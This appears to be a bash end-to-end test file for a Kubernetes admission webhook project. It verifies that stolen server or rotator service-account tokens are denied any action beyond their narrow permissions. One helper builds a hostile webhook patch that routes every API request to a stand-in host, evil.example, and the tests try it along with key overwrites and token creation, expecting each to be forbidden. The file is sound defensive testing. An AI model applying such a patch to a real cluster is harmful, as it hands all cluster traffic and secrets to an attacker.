# SPDX-License-Identifier: Apache-2.0
# 15-rights.sh - the permissions of a stolen token of a server or of the rotator.
# shellcheck shell=bash

# forbidden ACCOUNT ARGS...: the API server authenticates the account and denies the request.
forbidden() {
    person "$@"
    fails
    prints ' is forbidden: User "system:serviceaccount:'
}
# rights: the output of `kubectl auth can-i --list`, without the permissions of all users.
rights() {
    said=$(awk '$1 != "Resources" && $1 !~ /^selfsubject/ && $1 !~ /^\[/ { gsub(/ +/, " "); print }' <<< "$said" | LC_ALL=C sort)
}
# account NAME PERSON: a token of the account, as its pods have.
account() {
    admin create token "$1" -n $system --duration=10m
    becomes "$2"
}
# evil ENTRY: a webhook that sends all requests to another server.
evil() {
    echo '{"webhooks": [{"name": "'"$1"'", "clientConfig": {"service": null, "url": "https://evil.example/"},
        "rules": [{"apiGroups": ["*"], "apiVersions": ["*"], "resources": ["*/*"], "operations": ["*"]}]}]}'
}
# shellcheck disable=SC2120 # ACCOUNT, else curfew
a_token_secret() {
    cat << END
apiVersion: v1
kind: Secret
metadata: {name: mine, namespace: $system, annotations: {kubernetes.io/service-account.name: ${1:-curfew}}}
type: kubernetes.io/service-account-token
END
}

scenario 'rights: a server may only list and watch, and get the Secret of its certificate'
account curfew server
person server auth can-i --list -n $system
rights
said_is 'namespaces [] [] [list watch]
persistentvolumeclaims [] [] [list watch]
persistentvolumes [] [] [list watch]
pods [] [] [list watch]
secrets [] [] [list watch]
secrets [] [curfew-tls] [get]
serviceaccounts [] [] [list watch]'
person server get secret curfew-tls -n $system -o name
said_is secret/curfew-tls

scenario 'rights: a server cannot change the webhook configurations'
forbidden server patch mutatingwebhookconfiguration curfew --dry-run=server -p "$(evil mutate.curfew.dev)"
forbidden server patch validatingwebhookconfiguration curfew --dry-run=server -p "$(evil validate.curfew.dev)"
for kind in mutatingwebhookconfiguration validatingwebhookconfiguration; do
    forbidden server get $kind curfew
    forbidden server delete $kind curfew --dry-run=server
done

scenario 'rights: a server cannot write Secrets, read others, or create tokens'
forbidden server patch secret curfew-tls -n $system --dry-run=server -p '{"data": {"tls.key": "eA=="}}'
forbidden server delete secret curfew-tls -n $system --dry-run=server
forbidden server get secret web-token -n shop
forbidden server create token curfew -n $system
forbidden server create token curfew-rotator -n $system
a_token_secret > "$E2E_WORK/mine.yaml"
forbidden server create --dry-run=server -f "$E2E_WORK/mine.yaml"
forbidden server create deployment x --image=x -n $system --dry-run=server

scenario 'rights: the rotator may only write one Secret and two webhook configurations'
account curfew-rotator rotator
person rotator auth can-i --list -n $system
rights
said_is 'mutatingwebhookconfigurations.admissionregistration.k8s.io [] [curfew] [get patch]
secrets [] [] [create]
secrets [] [curfew-tls] [get update]
validatingwebhookconfigurations.admissionregistration.k8s.io [] [curfew] [get patch]'
forbidden rotator get secrets -A
forbidden rotator get secret web-token -n shop
forbidden rotator get pods -A
forbidden rotator get validatingwebhookconfigurations
forbidden rotator create token curfew -n $system

scenario 'rights: all pods meet the restricted Pod Security Standard and have one short-lived token'
admin get pods -n $system -o jsonpath='{range .items[*]}{.spec.automountServiceAccountToken} {.spec.containers[0].securityContext.readOnlyRootFilesystem} {.spec.volumes[?(@.name=="token")].projected.sources[0].serviceAccountToken.expirationSeconds}{"\n"}{end}'
said=$(sort -u <<< "$said")
said_is 'false true 3600'
